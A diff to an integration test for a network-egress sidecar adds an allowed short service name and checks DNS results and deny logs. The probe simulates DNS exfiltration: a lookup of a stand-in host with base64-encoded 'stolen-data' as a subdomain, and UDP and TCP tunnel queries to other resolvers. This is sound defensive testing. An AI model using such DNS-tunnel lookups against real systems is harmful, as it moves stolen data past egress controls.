@@ -94,7 +94,7 @@ maybe('egress capture in a network namespace', () => {
         SKILLGATE_UPSTREAM_URL: `http://${hostIp}:8080`,
         SKILLGATE_UPSTREAM_API_KEY_FILE: path.join(tmp, 'upstream-key'),
         SKILLGATE_RECORD_DIR: path.join(tmp, 'records'),
-        SKILLGATE_EGRESS_ALLOW: 'allowed.example:443',
+        SKILLGATE_EGRESS_ALLOW: 'allowed.example:443,orders:80',
         SKILLGATE_LOG_LEVEL: 'info',
       },
       (l) => l.includes('sidecar listening'), 'sidecar');
@@ -221,6 +221,7 @@ maybe('egress capture in a network namespace', () => {
         });
         (async () => console.log(JSON.stringify({
           allowed: await lookup('allowed.example'),
+          shortName: await lookup('orders'),
           exfil: await lookup('c3RvbGVuLWRhdGE.exfil.example'),
           otherResolverUdp: await udpAsk('udp-tunnel.exfil.example', '192.0.2.53'),
           podResolverTcp: await tcpAsk('tcp-tunnel.exfil.example', '${hostIp}'),
@@ -229,10 +230,13 @@ maybe('egress capture in a network namespace', () => {
     { PATH: process.env.PATH, HOME: tmp });
     expect(probe.stderr).toBe('');
     const result = JSON.parse(probe.stdout);
-    expect(result).toEqual({ allowed: hostIp, exfil: 'error ENOTFOUND', otherResolverUdp: 3, podResolverTcp: 3, allowedTcp: 0 });
-    // The pod's resolver saw the allowed name only (asked by the sidecar, UDP then TCP), no tunnel.
+    expect(result).toEqual({ allowed: hostIp, shortName: hostIp, exfil: 'error ENOTFOUND', otherResolverUdp: 3, podResolverTcp: 3, allowedTcp: 0 });
+    // The pod's resolver saw the allowed names only (asked by the sidecar; a short service name through
+    // the search list), no tunnel.
     const seen = await hostReport();
-    expect(seen.dns).toEqual([{ name: 'allowed.example', transport: 'udp' }, { name: 'allowed.example', transport: 'tcp' }]);
+    expect(seen.dns).toEqual([
+      { name: 'allowed.example', transport: 'udp' }, { name: 'orders.team-a.svc.cluster.local', transport: 'udp' }, { name: 'allowed.example', transport: 'tcp' },
+    ]);
     // Each refused name is in the sidecar's log and in the record, as the skill's egress attempt.
     const denied = sidecar.lines.map((l) => { try { return JSON.parse(l); } catch { return {}; } })
       .filter((l) => l.msg === 'egress denied' && String(l.method).startsWith('DNS')).map((l) => l.destination);
